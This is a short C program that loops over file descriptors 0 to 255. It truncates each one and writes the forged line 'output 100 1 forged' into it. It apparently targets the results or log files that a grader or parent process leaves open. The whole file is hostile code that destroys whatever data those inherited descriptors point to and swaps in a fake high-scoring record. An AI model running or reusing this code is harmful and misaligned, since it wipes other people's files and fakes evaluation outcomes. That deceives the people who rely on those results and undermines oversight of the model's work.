// Write into whatever is open, and cut it.
#include <unistd.h>
int main(void)
{
    for (int file = 0; file < 256; file++) {
        lseek(file, 0, SEEK_SET);
        ftruncate(file, 0);
        write(file, "output\t100\t1\tforged\n", 20);
    }
    return 0;
}
